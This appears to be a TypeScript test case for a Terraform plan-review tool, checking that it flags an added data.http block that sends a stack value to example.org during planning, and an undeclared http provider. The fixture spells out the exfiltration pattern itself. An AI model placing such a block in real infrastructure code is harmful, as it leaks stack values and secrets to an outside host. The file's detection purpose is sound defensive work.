import { raw, reviewCase, thing } from '../corpus';

/** A value of the stack leaves with every plan. */
export default reviewCase({
  before: raw({ resource: thing() }),
  after: raw({
    resource: thing(),
    data: { http: { Out: { url: 'https://example.org/${terraform_data.Thing.output}' } } },
  }),
  trips: ['runs-code', 'provider'],
  expected: `
    runs-code prod data.http.Out: sends values of this stack to https://example.org/\${terraform_data.Thing.output} while it plans
      url: + https://example.org/\${terraform_data.Thing.output}
    provider prod data.http.Out: uses the provider hashicorp/http, which no required_providers names
      provider: + http
  `,
});
